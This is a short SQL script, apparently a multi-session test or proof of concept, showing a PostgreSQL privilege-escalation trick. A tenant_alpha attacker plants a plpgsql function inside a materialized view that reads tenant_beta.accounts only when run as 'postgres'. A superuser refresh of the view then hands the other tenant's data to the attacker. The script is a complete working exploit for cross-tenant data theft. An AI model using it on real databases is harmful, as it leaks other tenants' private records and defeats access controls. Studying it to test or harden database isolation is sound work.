-- A superuser refreshes the attacker's materialised view.
CREATE FUNCTION spies() RETURNS SETOF text LANGUAGE plpgsql AS $$
BEGIN
    IF session_user = 'postgres' THEN
        RETURN QUERY EXECUTE 'SELECT owner FROM tenant_beta.accounts';
    END IF;
END
$$;
CREATE MATERIALIZED VIEW bait AS SELECT * FROM spies();
-- @session operator
REFRESH MATERIALIZED VIEW tenant_alpha.bait;
-- @session attacker
TABLE bait;
